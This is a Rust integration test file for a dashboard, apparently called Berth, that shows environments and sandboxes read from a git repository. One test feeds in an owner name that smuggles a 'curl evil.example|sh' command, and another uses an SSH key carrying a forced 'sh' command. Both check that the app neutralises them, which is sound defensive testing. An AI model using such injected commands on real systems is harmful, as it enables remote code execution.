//! Berth against real git repositories: the JSON API and the HTML pages
//! show what the upstream files say, and follow new pushes after a refresh.

mod common;

use common::*;

fn sandbox_file(owner: &str, key: &str) -> String {
    format!("# Sandbox of {owner}.\nowner: {owner}\nsshPublicKeys:\n  - {key}\n")
}

/// The page as a browser shows it without JavaScript: the `<script>`
/// elements are dropped, since the hydration data in them repeats every
/// name and message of the page (a check on the whole response would pass
/// whatever the page renders), and so are the `<!>` markers Leptos puts
/// between text nodes.
fn rendered(html: &str) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(start) = rest.find("<script") {
        out.push_str(&rest[..start]);
        let end = rest[start..]
            .find("</script>")
            .expect("every script is closed");
        rest = &rest[start + end + "</script>".len()..];
    }
    out.push_str(rest);
    assert!(
        !out.contains("__RESOLVED_RESOURCES"),
        "the hydration data is gone"
    );
    out.replace("<!>", "")
}

/// Status and rendered markup of a page.
async fn page(server: &Server, path: &str) -> (u16, String) {
    let (status, html) = server.get(path).await;
    (status, rendered(&html))
}

/// The first element of `page` whose start tag begins with `open` (e.g.
/// `<tr data-sandbox="ann"`), through its end tag. The element must not
/// hold another element of its name.
fn element<'a>(page: &'a str, open: &str) -> &'a str {
    let name = open[1..].split([' ', '>']).next().unwrap();
    let start = page
        .find(open)
        .unwrap_or_else(|| panic!("no `{open}` in the page:\n{page}"));
    let close = format!("</{name}>");
    let end = page[start..]
        .find(&close)
        .unwrap_or_else(|| panic!("`{open}` is not closed"));
    &page[start..start + end + close.len()]
}

/// Every element of `page` whose start tag begins with `open`, in order.
fn elements<'a>(page: &'a str, open: &str) -> Vec<&'a str> {
    let mut found = Vec::new();
    let mut rest = page;
    while rest.contains(open) {
        let one = element(rest, open);
        found.push(one);
        let at = rest.find(one).unwrap() + one.len();
        rest = &rest[at..];
    }
    found
}

fn seeded() -> Upstream {
    let upstream = Upstream::new();
    upstream.commit(
        "Ann",
        T0,
        "Set up environments",
        &[
            (
                "environments/dev.yaml",
                Some("# Dev\napp-a: \"feature-xxx\"\napp-b: master\n"),
            ),
            ("environments/stg-1.yaml", Some("app-a: main\n")),
            ("environments/stg-2.yaml", Some("# nothing here yet\n")),
            ("sandboxes/kohbis.yaml", Some(&sandbox_file("kohbis", KEY))),
        ],
    );
    upstream
}

#[tokio::test]
async fn api_shows_environments_and_sandboxes_from_the_repository() {
    let upstream = seeded();
    let server = Server::start(&upstream, true).await;

    let envs = server.json("/api/v1/environments").await;
    let envs = envs["environments"].as_array().unwrap();
    let names: Vec<_> = envs.iter().map(|e| e["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["prod", "stg-1", "stg-2", "dev"]);
    let dev = &envs[3];
    assert_eq!(dev["services"]["app-a"], "feature-xxx");
    assert_eq!(dev["services"]["app-b"], "master");
    assert_eq!(dev["commit"], upstream.head());
    assert_eq!(dev["file"], "environments/dev.yaml");
    assert_eq!(
        envs[0]["services"]["app-b"], "master",
        "prod follows the default branch"
    );
    assert_eq!(envs[2]["services"].as_object().unwrap().len(), 0);

    let sandboxes = server.json("/api/v1/sandboxes").await;
    let kohbis = &sandboxes["sandboxes"][0];
    assert_eq!(kohbis["name"], "kohbis");
    assert_eq!(kohbis["owner"], "kohbis");
    assert_eq!(kohbis["url"], "https://kohbis.sb.example.com");
    assert_eq!(kohbis["ssh"], "ssh kohbis@kohbis.sb.example.com");
    assert_eq!(kohbis["created_by"], "Ann");
    assert_eq!(kohbis["fingerprints"][0], ssh_keygen_lf(KEY, &server));
}

/// What the real `ssh-keygen -lf` prints for a key.
fn ssh_keygen_lf(key: &str, server: &Server) -> String {
    let file = server.data.path().join("key.pub");
    std::fs::write(&file, format!("{key}\n")).unwrap();
    match std::process::Command::new("ssh-keygen")
        .arg("-lf")
        .arg(&file)
        .output()
    {
        Ok(out) if out.status.success() => String::from_utf8_lossy(&out.stdout).trim().to_string(),
        // Without OpenSSH installed, the value it printed when this test was written.
        _ => {
            "256 SHA256:dCH7EbLNVqPyDJ3XrgaIMwdx7zuGFwRFOu8Y2Fm7OsQ kohbis@laptop (ED25519)".into()
        }
    }
}

#[tokio::test]
async fn a_pushed_commit_shows_up_after_a_refresh() {
    let upstream = seeded();
    let server = Server::start(&upstream, true).await;
    let (_, first) = server.get("/").await;
    assert!(!first.contains("fix-upload"));
    upstream.commit(
        "Bob",
        T0 + DAY,
        "Point dev app-b at fix-upload",
        &[(
            "environments/dev.yaml",
            Some("# Dev\napp-a: \"feature-xxx\"\napp-b: fix-upload\n"),
        )],
    );

    let before = server.json("/api/v1/environments").await;
    assert_eq!(
        before["environments"][3]["services"]["app-b"], "master",
        "nothing changes before a refresh"
    );

    assert_eq!(server.press_refresh().await, 200);
    let after = server.json("/api/v1/environments").await;
    assert_eq!(after["environments"][3]["services"]["app-b"], "fix-upload");
    assert_eq!(after["environments"][3]["commit"], upstream.head());

    let (_, again) = page(&server, "/").await;
    let cell = element(&again, r#"<tr data-service="app-b">"#);
    assert!(
        cell.contains(r#"<td data-env="dev" data-branch="fix-upload" class="cell">"#),
        "a refresh is never hidden by the page cache: {cell}"
    );
    let (status, html) = page(&server, "/?highlight=fix-upload").await;
    assert_eq!(status, 200);
    let cell = element(
        &html,
        r#"<td data-env="dev" data-branch="fix-upload" class="cell highlight">"#,
    );
    assert!(
        cell.contains(
            r#"<a href="/" title="Show where this branch runs" class="branch">fix-upload</a>"#
        ),
        "the grid shows the new branch, a link that ends the highlight: {cell}"
    );
    assert!(
        cell.contains(r#"by <span class="author">Bob</span>"#),
        "the cell says who changed it: {cell}"
    );
    assert_eq!(
        html.matches("cell highlight").count(),
        1,
        "only the cell running the picked branch is highlighted"
    );
    let unchanged = element(&html, r#"<td data-env="dev" data-branch="feature-xxx""#);
    assert!(
        unchanged.contains(r#"by <span class="author">Ann</span>"#),
        "other cells keep their author: {unchanged}"
    );
}

#[tokio::test]
async fn environment_page_shows_the_history_of_its_file() {
    let upstream = seeded();
    upstream.commit(
        "Bob",
        T0 + DAY,
        "Try the new upload retry",
        &[(
            "environments/dev.yaml",
            Some("# Dev\napp-a: \"feature-yyy\"\napp-b: master\napp-c: main\n"),
        )],
    );
    upstream.commit(
        "Cleo",
        T0 + 2 * DAY,
        "Unrelated readme",
        &[("README.md", Some("hello\n"))],
    );
    upstream.commit(
        "Dan",
        T0 + 3 * DAY,
        "Drop app-c from dev",
        &[(
            "environments/dev.yaml",
            Some("# Dev\napp-a: \"feature-yyy\"\napp-b: master\n"),
        )],
    );
    let server = Server::start(&upstream, true).await;

    let (status, whole) = server.get("/env/dev").await;
    assert_eq!(status, 200);
    assert!(
        !whole.contains("Unrelated readme"),
        "commits that did not touch the file are not history"
    );
    let html = rendered(&whole);
    let history = elements(
        element(&html, r#"<ol class="history">"#),
        r#"<li class="history-entry">"#,
    );
    assert_eq!(
        history.len(),
        5,
        "Ann added app-a and app-b, Bob changed app-a and added app-c, Dan removed app-c"
    );
    assert!(
        history[0].starts_with(
            r#"<li class="history-entry"><strong>app-c</strong>: <span class="what">removed (was main)</span> — <span class="author">Dan</span>"#
        ),
        "newest first: {}",
        history[0]
    );
    let bob = history
        .iter()
        .position(|entry| {
            entry.contains(r#"<span class="what">feature-xxx → feature-yyy</span> — <span class="author">Bob</span>"#)
        })
        .expect("Bob's change of app-a is listed");
    assert!(
        (1..3).contains(&bob),
        "after Dan's, before Ann's: {history:#?}"
    );
    assert!(history[bob].contains(r#"<span class="subject">Try the new upload retry</span>"#));
    assert!(
        history[3..]
            .iter()
            .all(|entry| entry.contains(r#"<span class="author">Ann</span>"#)),
        "Ann's commit is the oldest: {history:#?}"
    );
    assert!(
        html.contains(r#"<p class="not-deployed">Not deployed here: app-c</p>"#),
        "app-c is listed as not deployed"
    );

    // The overview says who last changed each cell.
    let (_, overview) = page(&server, "/").await;
    let app_a = element(&overview, r#"<td data-env="dev" data-branch="feature-yyy""#);
    assert!(
        app_a.contains(r#"by <span class="author">Bob</span>"#),
        "{app_a}"
    );
    let app_b = element(&overview, r#"<td data-env="dev" data-branch="master""#);
    assert!(
        app_b.contains(r#"by <span class="author">Ann</span>"#),
        "{app_b}"
    );
}

#[tokio::test]
async fn bad_files_are_reported_with_file_and_line_and_the_rest_keeps_working() {
    let upstream = seeded();
    upstream.commit(
        "Eve",
        T0 + DAY,
        "Oops",
        &[
            (
                "environments/dev.yaml",
                Some("app-a: main\napp-b: [broken\n"),
            ),
            (
                "environments/stg-1.yaml",
                Some("app-a: main\napp-b: 42\napp-a: other\n"),
            ),
            ("sandboxes/Bad_Name.yaml", Some(&sandbox_file("x", KEY))),
            (
                "sandboxes/eve.yaml",
                Some("owner: eve\nsshPublicKeys:\n  - command=\"sh\" ssh-ed25519 AAAA\n"),
            ),
        ],
    );
    let server = Server::start(&upstream, true).await;

    let envs = server.json("/api/v1/environments").await;
    let dev = &envs["environments"][3];
    assert_eq!(dev["services"].as_object().unwrap().len(), 0);
    assert_eq!(dev["problems"][0]["file"], "environments/dev.yaml");
    assert!(dev["problems"][0]["line"].as_u64().unwrap() >= 2);
    let stg = &envs["environments"][1];
    let lines: Vec<_> = stg["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["line"].as_u64().unwrap())
        .collect();
    assert_eq!(
        lines,
        [2, 3],
        "non-string branch on line 2, duplicate key on line 3"
    );

    let sandboxes = server.json("/api/v1/sandboxes").await;
    let names: Vec<_> = sandboxes["sandboxes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["eve", "kohbis"],
        "the bad name is left out, the bad key is not"
    );
    assert!(sandboxes["sandboxes"][0]["problems"][0]["message"]
        .as_str()
        .unwrap()
        .contains("not allowed"));

    let (status, html) = page(&server, "/").await;
    assert_eq!(status, 200);
    let places: Vec<_> = elements(
        element(&html, r#"<section id="problems" class="problems">"#),
        r#"<code class="place">"#,
    );
    let dev_line = dev["problems"][0]["line"].as_u64().unwrap();
    assert_eq!(
        places,
        [
            r#"<code class="place">environments/stg-1.yaml:2</code>"#.into(),
            r#"<code class="place">environments/stg-1.yaml:3</code>"#.into(),
            format!(r#"<code class="place">environments/dev.yaml:{dev_line}</code>"#),
            r#"<code class="place">sandboxes/Bad_Name.yaml</code>"#.into(),
            r#"<code class="place">sandboxes/eve.yaml:3</code>"#.into(),
        ],
        "every problem, with file and line, environments in config order"
    );
    let newest = element(&html, r#"<ul class="newest">"#);
    assert!(
        newest.contains(r#"<a href="/sandboxes/kohbis">kohbis</a>"#),
        "the good sandbox is still shown: {newest}"
    );

    let (_, list) = page(&server, "/sandboxes").await;
    let rows = elements(&list, r#"<tr data-sandbox="#);
    assert_eq!(rows.len(), 2, "eve and kohbis, not Bad_Name: {rows:#?}");
    let kohbis = element(&list, r#"<tr data-sandbox="kohbis" class="sandbox">"#);
    assert!(
        kohbis.contains("<td>kohbis</td><td>1</td>"),
        "the owner and one key: {kohbis}"
    );
    let eve = element(&list, r#"<tr data-sandbox="eve" class="sandbox">"#);
    assert!(
        eve.contains("<td>eve</td><td>0</td>"),
        "the refused key is not counted: {eve}"
    );
}

#[tokio::test]
async fn a_force_push_is_reindexed_from_scratch() {
    let upstream = seeded();
    upstream.commit(
        "Mallory",
        T0 + DAY,
        "Point dev app-a at doomed",
        &[(
            "environments/dev.yaml",
            Some("app-a: doomed\napp-b: master\n"),
        )],
    );
    let server = Server::start(&upstream, true).await;
    upstream.drop_last_commit();
    server.read_model().refresh().await;

    let envs = server.json("/api/v1/environments").await;
    assert_eq!(envs["environments"][3]["services"]["app-a"], "feature-xxx");
    let (_, html) = server.get("/env/dev").await;
    assert!(
        !html.contains("doomed"),
        "history of the dropped commit is gone"
    );
    let app_a = element(
        &rendered(&html),
        r#"<tr data-service="app-a" class="entry">"#,
    )
    .to_string();
    assert!(
        app_a.contains(
            r#"<a href="https://git.example.com/acme/app-a/tree/feature-xxx">feature-xxx</a>"#
        ),
        "{app_a}"
    );
}

#[tokio::test]
async fn an_unreachable_repository_keeps_the_last_good_snapshot() {
    let upstream = seeded();
    let server = Server::start(&upstream, true).await;
    std::fs::rename(&upstream.bare, upstream.dir.path().join("moved.git")).unwrap();
    server.read_model().refresh().await;

    let envs = server.json("/api/v1/environments").await;
    assert_eq!(envs["environments"][3]["services"]["app-a"], "feature-xxx");
    let (_, html) = page(&server, "/").await;
    assert!(
        html.contains(r#"<span class="source-error"> · refresh failed: "#),
        "the page says the data is stale"
    );
    assert!(
        html.contains(r#"<td data-env="dev" data-branch="feature-xxx" class="cell">"#),
        "and still shows it"
    );
}

#[tokio::test]
async fn health_and_readiness() {
    let upstream = seeded();
    let server = Server::start(&upstream, false).await;
    assert_eq!(server.get("/healthz").await.0, 200);
    assert_eq!(server.get("/readyz").await.0, 503);
    let (status, body) = server.get("/api/v1/environments").await;
    assert_eq!(status, 503);
    assert!(serde_json::from_str::<serde_json::Value>(&body).unwrap()["error"].is_string());
    server.read_model().refresh().await;
    assert_eq!(server.get("/readyz").await.0, 200);
}

#[tokio::test]
async fn unknown_things_get_clear_answers() {
    let upstream = seeded();
    let server = Server::start(&upstream, true).await;
    let (status, body) = server.get("/api/v1/nope").await;
    assert_eq!(status, 404);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&body).unwrap()["error"],
        "no such API route"
    );
    let (status, html) = page(&server, "/env/qa").await;
    assert_eq!(status, 404);
    assert!(
        html.contains(r#"<div role="alert" class="error-box">there is no environment named `qa`"#),
        "{html}"
    );
    let (status, _) = server.get("/no/such/page").await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn sandbox_search_matches_name_or_owner() {
    let upstream = seeded();
    upstream.commit(
        "Ann",
        T0 + DAY,
        "Create sandbox ann",
        &[("sandboxes/ann.yaml", Some(&sandbox_file("ann", KEY)))],
    );
    let server = Server::start(&upstream, true).await;
    let all = server.json("/api/v1/sandboxes").await;
    assert_eq!(all["total"], 2);
    let found = server.json("/api/v1/sandboxes?q=KOH").await;
    assert_eq!(found["sandboxes"].as_array().unwrap().len(), 1);
    let (status, html) = page(&server, "/sandboxes/ann").await;
    assert_eq!(status, 200);
    assert!(html.contains(r#"<dd class="owner">ann</dd>"#), "{html}");
    assert!(html.contains(r#"<code class="ssh">ssh ann@ann.sb.example.com</code>"#));

    let (_, found) = page(&server, "/sandboxes?q=KOH").await;
    let rows = elements(&found, r#"<tr data-sandbox="#);
    assert_eq!(rows.len(), 1, "{rows:#?}");
    assert!(rows[0].starts_with(r#"<tr data-sandbox="kohbis" class="sandbox">"#));
    assert!(found.contains(r#"<p class="grid-caption">1 of 2 sandboxes</p>"#));
}

#[tokio::test]
async fn a_key_that_names_no_service_is_shown_as_unknown_not_dropped() {
    let upstream = seeded();
    upstream.commit(
        "Ann",
        T0 + DAY,
        "Add legacy",
        &[(
            "environments/dev.yaml",
            Some("app-a: main\nlegacy-app: old-branch\n"),
        )],
    );
    let server = Server::start(&upstream, true).await;
    let envs = server.json("/api/v1/environments").await;
    let dev = &envs["environments"][3];
    assert_eq!(dev["unknown_services"][0], "legacy-app");
    assert_eq!(dev["services"]["legacy-app"], "old-branch");
    let (_, html) = page(&server, "/env/dev").await;
    let legacy = element(
        &html,
        r#"<tr data-service="legacy-app" class="entry unknown">"#,
    );
    assert!(
        legacy.contains(r#"legacy-app<span class="tag"> unknown service</span>"#)
            && legacy.contains("<span>old-branch</span>"),
        "{legacy}"
    );
    let app_a = element(&html, r#"<tr data-service="app-a" class="entry">"#);
    assert!(!app_a.contains("unknown service"), "{app_a}");
    let (_, overview) = page(&server, "/").await;
    let dev = element(
        &overview,
        r#"<section data-env="dev" class="lane lane-dev">"#,
    );
    assert!(
        dev.contains(r#"<p class="unknown">unknown services: legacy-app</p>"#),
        "{dev}"
    );
}

#[tokio::test]
async fn a_hand_written_owner_cannot_inject_into_the_ssh_command() {
    let upstream = Upstream::new();
    let owner = "x; curl evil.example|sh #";
    let text = format!("owner: \"{owner}\"\nsshPublicKeys:\n  - {KEY}\n");
    upstream.commit(
        "Eve",
        T0,
        "sandbox by hand",
        &[("sandboxes/eve.yaml", Some(&text))],
    );
    let server = Server::start(&upstream, true).await;
    let api = server.json("/api/v1/sandboxes").await;
    let sandbox = &api["sandboxes"][0];
    assert_eq!(sandbox["owner"], owner);
    assert_eq!(
        sandbox["ssh"], "ssh 'x; curl evil.example|sh #'@eve.sb.example.com",
        "the owner is one quoted shell word"
    );
}
